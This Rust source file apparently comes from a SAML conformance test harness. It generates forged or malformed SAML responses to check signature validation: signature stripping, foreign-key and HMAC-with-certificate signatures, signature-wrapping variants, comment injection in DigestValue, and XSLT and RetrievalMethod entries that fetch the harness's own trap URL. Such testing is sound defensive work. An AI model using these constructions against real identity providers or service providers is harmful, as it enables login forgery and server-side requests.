//! Signatures that prove nothing (saml-core-2.0-os, 5.4; W3C XML Signature 1.1).

use bergshamra_c14n::C14nMode;

use super::algorithm::re_signed;
use super::{Wrong, wrong};
use crate::forge::{Digest, KeyInfo, Method, Piece, Reference, Signing, digest_of, signature, signed_info};
use crate::scene::Scene;
use crate::xml::{DS, SAML, element};

const XSLT: &str = "http://www.w3.org/TR/1999/REC-xslt-19991116";
const XPATH: &str = "http://www.w3.org/TR/1999/REC-xpath-19991116";

pub(super) fn of(kind: &str) -> Option<Vec<Wrong>> {
    Some(match kind {
        "unsigned" => vec![wrong("Signature: -", unsigned)],
        "only-assertion-signed" => vec![wrong("Response/Signature: -", |s| s.with(|d| d.sign_response = None))],
        "only-response-signed" => vec![wrong("Assertion/Signature: -", |s| s.with(|d| d.sign_assertion = None))],
        "foreign-key" => vec![wrong("Signature by an unknown key, KeyInfo: -", |s| re_keyed(s, KeyInfo::Absent))],
        "foreign-key-embedded" => vec![wrong("Signature by the key in KeyInfo", |s| re_keyed(s, KeyInfo::Certificate))],
        "changed" => vec![wrong("AttributeValue changed after signing", |s| {
            let message = s.draft_of(&s.genuine).write();
            message.replace(&s.genuine.local, &s.victim.local)
        })],
        "flipped" => vec![
            wrong("SignatureValue ⊕ 1", |s| garble(&s.draft().write(), "ds:SignatureValue")),
            wrong("DigestValue ⊕ 1", |s| garble(&s.draft().write(), "ds:DigestValue")),
        ],
        "removed" => vec![wrong("Signature removed", |s| without_signatures(&s.draft().write()))],
        "other-target" => vec![
            wrong("Reference/@URI = \"\"", |s| {
                referring(s, |piece, signing| vec![Reference { uri: Some(String::new()), ..signing.reference(piece) }])
            }),
            wrong("Reference/@URI → another element", |s| {
                // What is signed stands in the signature itself and says nothing.
                let object = element("ds:Object", &[("xmlns:ds", Some(DS)), ("Id", Some("_samspel"))], "");
                by_hand(s, |piece, signing| {
                    let reference = Reference {
                        uri: Some("#_samspel".to_owned()),
                        transforms: transform(signing.canonical.uri()),
                        digest: Digest::Sha256,
                        value: digest_of(&object, signing.canonical, Digest::Sha256),
                    };
                    let _ = piece;
                    signature(signing, &signed_info(signing, &[reference]), &object)
                })
            }),
        ],
        "two-references" => vec![wrong("Reference × 2", |s| {
            referring(s, |piece, signing| vec![signing.reference(piece), signing.reference(piece)])
        })],
        "two-signatures" => vec![wrong("Signature × 2, the second genuine", |s| {
            by_hand(s, |piece, signing| {
                let genuine = signing.of(piece);
                let forged = Signing { key: &s.bench.idp.foreign, ..signing.clone() }.of(piece);
                format!("{forged}{genuine}")
            })
        })],
        "encryption-key" => vec![wrong("Signature by the key published for encryption", |s| {
            let bench = s.bench;
            s.with(|draft| {
                for signing in [&mut draft.sign_response, &mut draft.sign_assertion].into_iter().flatten() {
                    signing.key = &bench.idp.encryption;
                }
            })
        })],
        "same-id-twice" => vec![wrong("ID of the assertion × 2", |s| {
            let draft = s.draft();
            let id = draft.assertion.as_ref().and_then(|a| a.id.clone());
            s.with(|d| {
                d.assertion.clone_from(&draft.assertion);
                d.response.extensions = element(
                    "samlp:Extensions",
                    &[],
                    &element("x:X", &[("xmlns:x", Some("urn:samspel:x")), ("ID", id.as_deref())], ""),
                );
            })
        })],
        "xslt" => vec![wrong("Transform = XSLT with document()", |s| {
            let url = s.trap_url();
            let sheet = format!(
                "<ds:Transform Algorithm=\"{XSLT}\"><xsl:stylesheet version=\"1.0\" \
                 xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\">\
                 <xsl:copy-of select=\"document('{url}')\"/></xsl:template></xsl:stylesheet></ds:Transform>"
            );
            transformed(s, &sheet)
        })],
        "xpath" => vec![wrong("Transform = XPath", |s| {
            transformed(s, &format!("<ds:Transform Algorithm=\"{XPATH}\"><ds:XPath>true()</ds:XPath></ds:Transform>"))
        })],
        "hmac" => vec![
            wrong("hmac-sha256 keyed with the certificate (DER)", |s| {
                hmac(s, s.bench.idp.signing.certificate.clone(), None)
            }),
            wrong("hmac-sha256 keyed with the certificate (base64)", |s| {
                hmac(s, s.bench.idp.signing.x509().into_bytes(), None)
            }),
        ],
        "hmac-cut" => vec![wrong("hmac-sha256, HMACOutputLength = 1", |s| hmac(s, b"samspel".to_vec(), Some(1)))],
        "key-elsewhere" => vec![
            Wrong {
                label: "KeyInfo/RetrievalMethod → http",
                make: |s| {
                    let place = element("ds:RetrievalMethod", &[("URI", Some(&s.trap_url()))], "");
                    re_signed(s, |signing| signing.key_info = KeyInfo::Other(place.clone()))
                },
                may_be_let_in: true,
            },
            Wrong {
                label: "KeyInfo/RetrievalMethod/@Type = X509Data → http",
                make: |s| {
                    let place = element(
                        "ds:RetrievalMethod",
                        &[("Type", Some("http://www.w3.org/2000/09/xmldsig#X509Data")), ("URI", Some(&s.trap_url()))],
                        "",
                    );
                    re_signed(s, |signing| signing.key_info = KeyInfo::Other(place.clone()))
                },
                may_be_let_in: true,
            },
        ],
        "two-signed-infos" => vec![wrong("SignedInfo × 2, the second genuine", |s| {
            by_hand(s, |piece, signing| {
                let genuine = signing.of(piece);
                let mut reference = signing.reference(piece);
                reference.value = digest_of("<x></x>", C14nMode::Exclusive, Digest::Sha256);
                let forged = signed_info(signing, &[reference]);
                genuine.replacen("<ds:SignedInfo", &format!("{forged}<ds:SignedInfo"), 1)
            })
        })],
        "comment-in-digest" => vec![wrong("DigestValue = <!--forged-->genuine", |s| {
            let (forged, genuine) = (s.draft(), s.draft_of(&s.genuine));
            let (Some(piece), Some(real), Some(signing)) =
                (forged.assertion_piece(), genuine.assertion_piece(), forged.sign_assertion.clone())
            else {
                return String::new();
            };
            let reference = signing.reference(&real);
            let value = reference.value.clone();
            let info = signed_info(&signing, &[Reference { uri: Some(format!("#{}", piece.id)), ..reference }]);
            let made = signature(&signing, &info, "");
            let wanted = digest_of(&piece.unsigned(), C14nMode::Exclusive, Digest::Sha256);
            let made = made.replacen(&value, &format!("<!--{wanted}-->{value}"), 1);
            around(s, &piece.with(&made))
        })],
        _ => return None,
    })
}

/// A message that nobody signed.
pub(crate) fn unsigned(scene: &Scene<'_>) -> String {
    scene.with(|draft| {
        draft.sign_response = None;
        draft.sign_assertion = None;
    })
}

fn re_keyed(scene: &Scene<'_>, key_info: KeyInfo) -> String {
    let bench = scene.bench;
    scene.with(|draft| {
        for signing in [&mut draft.sign_response, &mut draft.sign_assertion].into_iter().flatten() {
            signing.key = &bench.idp.foreign;
            signing.key_info = key_info.clone();
        }
    })
}

/// A sound message except for the signature of its assertion. The response has none, or it would vouch for the assertion.
fn by_hand(scene: &Scene<'_>, make: impl FnOnce(&Piece, &Signing<'_>) -> String) -> String {
    let draft = scene.draft();
    let (Some(piece), Some(signing)) = (draft.assertion_piece(), &draft.sign_assertion) else { return String::new() };
    around(scene, &piece.with(&make(&piece, signing)))
}

/// An unsigned response around an assertion.
pub(super) fn around(scene: &Scene<'_>, assertion: &str) -> String {
    scene.draft().response_piece(assertion).unsigned()
}

fn referring(scene: &Scene<'_>, references: impl FnOnce(&Piece, &Signing<'_>) -> Vec<Reference>) -> String {
    by_hand(scene, |piece, signing| signature(signing, &signed_info(signing, &references(piece, signing)), ""))
}

/// With one more transform. What the digest would be of does not matter: nothing that is transformed so may be accepted, and a
/// transform that copies everything leaves the digest as it is.
fn transformed(scene: &Scene<'_>, transform: &str) -> String {
    referring(scene, |piece, signing| {
        let reference = signing.reference(piece);
        let transforms = format!("{}{transform}", reference.transforms);
        vec![Reference { transforms, ..reference }]
    })
}

fn transform(uri: &str) -> String {
    element("ds:Transform", &[("Algorithm", Some(uri))], "")
}

fn hmac(scene: &Scene<'_>, key: Vec<u8>, bits: Option<usize>) -> String {
    re_signed(scene, |signing| signing.method = Method::Hmac { key: key.clone(), bits })
}

/// The message with the first character of each such element changed.
fn garble(message: &str, name: &str) -> String {
    let open = format!("<{name}>");
    let mut parts = message.split(&open);
    let mut out = parts.next().unwrap_or_default().to_owned();
    for part in parts {
        let mut characters = part.chars();
        let first = characters.next().unwrap_or_default();
        out.push_str(&open);
        out.push(if first == 'A' { 'B' } else { 'A' });
        out.push_str(characters.as_str());
    }
    out
}

fn without_signatures(message: &str) -> String {
    let (open, close) = (format!("<ds:Signature xmlns:ds=\"{DS}\">"), "</ds:Signature>");
    let mut out = String::new();
    let mut rest = message;
    while let Some(at) = rest.find(&open) {
        out.push_str(&rest[..at]);
        let end = rest[at..].find(close).map_or(rest.len(), |end| at + end + close.len());
        rest = &rest[end..];
    }
    out.push_str(rest);
    debug_assert!(out.contains(SAML));
    out
}
